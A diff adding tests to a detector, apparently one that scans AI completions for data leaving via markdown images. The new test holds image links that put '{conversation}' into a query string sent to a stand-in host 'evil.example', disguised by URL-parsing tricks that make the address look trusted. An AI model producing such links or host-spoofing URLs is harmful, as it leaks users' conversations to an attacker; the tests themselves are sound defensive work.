@@ -170,6 +170,15 @@ it('finds data on its way out in answers and in what tools returned, not to trus
   expect(rulesOf({ 'gen_ai.completion': CARRIED }, { trusted_hosts: ['Evil.example'] })).toEqual([])
 })
 
+it.each(['https://a@trusted.example:1@evil.example', 'https://evil.example\\.trusted.example'])(
+  'takes no address for a trusted host that a browser takes to another: %s',
+  (start) => {
+    const value = `![x](${start}/?q={conversation})`
+    const settings = { trusted_hosts: ['trusted.example'] }
+    expect(rulesOf({ 'gen_ai.completion': value }, settings)).toEqual(['image_exfiltration'])
+  },
+)
+
 it('reads the events of a span', () => {
   const batch = batchOf({
     attributes: {},
